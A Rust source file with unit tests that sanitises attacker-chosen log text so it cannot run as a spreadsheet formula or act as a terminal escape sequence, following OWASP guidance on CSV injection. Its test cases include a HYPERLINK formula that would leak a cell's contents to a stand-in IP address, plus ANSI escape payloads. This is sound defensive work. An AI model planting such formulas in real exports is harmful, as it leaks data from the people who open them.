//! Text of a log as a cell that does nothing when somebody opens the table in a spreadsheet, or
//! prints it to a terminal. Whoever sends a request chooses these texts.
//!
//! Source: OWASP, "CSV Injection".

use std::borrow::Cow;
use std::fmt::Write as _;

/// Characters that make a cell a formula where they are its first ones: a spreadsheet also takes
/// the wide forms that Chinese and Japanese keyboards write.
const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// The cell for a text: with an apostrophe before what would be a formula, and `\x1b` for control
/// characters, line ends among them. A `-` by itself is no formula.
pub(super) fn harmless(text: &str) -> Cow<'_, str> {
    let is_formula = text != "-" && text.trim_start().starts_with(FORMULA);
    let begins_oddly = text.starts_with(['\t', '\r', '\n']);
    if !is_formula && !text.contains(char::is_control) {
        return Cow::Borrowed(text);
    }
    let mut cell = String::with_capacity(text.len() + 8);
    if is_formula || begins_oddly {
        cell.push('\'');
    }
    for char in text.chars() {
        if char.is_control() {
            // Writing to a string does not fail.
            let _ = write!(cell, "\\x{:02x}", u32::from(char));
        } else {
            cell.push(char);
        }
    }
    Cow::Owned(cell)
}

/// Whether a spreadsheet that separates cells by `;`, as many do in Europe, would see several cells
/// in one that is not in quotes: the second of them could be a formula.
pub(super) fn needs_quotes(cell: &str) -> bool {
    cell.contains(';')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_spreadsheet_would_run_is_text_and_other_text_stays() {
        for (text, cell) in [
            (
                "=HYPERLINK(\"http://198.51.100.1/?\"&A1)",
                "'=HYPERLINK(\"http://198.51.100.1/?\"&A1)",
            ),
            ("+1+1", "'+1+1"),
            ("-1+1", "'-1+1"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("＝1", "'＝1"),
            (" =1", "' =1"),
            ("\t=1", "'\\x09=1"),
            ("\rx", "'\\x0dx"),
            ("\u{1b}[31mred\u{1b}[0m", "\\x1b[31mred\\x1b[0m"),
            ("a\u{9b}b\u{7f}", "a\\x9bb\\x7f"),
            ("line\nbreak", "line\\x0abreak"),
            ("-", "-"),
            ("", ""),
            ("/a=b+c@d-e", "/a=b+c@d-e"),
            ("Mozilla/5.0 (X11; ä)", "Mozilla/5.0 (X11; ä)"),
        ] {
            assert_eq!(harmless(text), cell, "{text:?}");
        }
        assert!(needs_quotes("a;=1") && !needs_quotes("a,=1"));
    }
}
